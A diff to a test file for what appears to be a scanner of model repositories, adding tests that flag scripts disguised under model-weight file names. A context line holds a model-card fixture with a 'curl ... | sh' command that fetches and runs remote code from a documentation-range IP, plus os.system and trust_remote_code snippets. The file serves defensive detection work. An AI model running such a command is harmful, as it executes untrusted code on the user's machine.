@@ -61,6 +61,24 @@ describe("Dockerfiles and shell scripts", () => {
   });
 });
 
+describe("scripts under the name of a model", () => {
+  test.each([
+    ["model.bin", "#!/usr/bin/env bash\necho\n"],
+    ["pytorch_model.bin.sh", "#!/bin/sh\necho\n"],
+    ["weights.pt", "@echo off\r\necho\r\n"],
+  ])("%s", async (name, text) => {
+    expect(await scan(name, text)).toEqual(["high executable/disguised"]);
+  });
+
+  test.each([
+    ["download.sh", "#!/bin/sh\necho\n"],
+    ["run.bat", "@echo off\r\necho\r\n"],
+    ["configure", "#!/bin/sh\necho\n"],
+  ])("%s is an honest name", async (name, text) => {
+    expect(await scan(name, text)).toEqual([]);
+  });
+});
+
 describe("prose", () => {
   const card =
     "---\nlicense: mit\n---\n# Model\n\n```python\nos.system('id')\nmodel = load('x', trust_remote_code=True)\n```\ncurl http://203.0.113.7/x | sh\n";
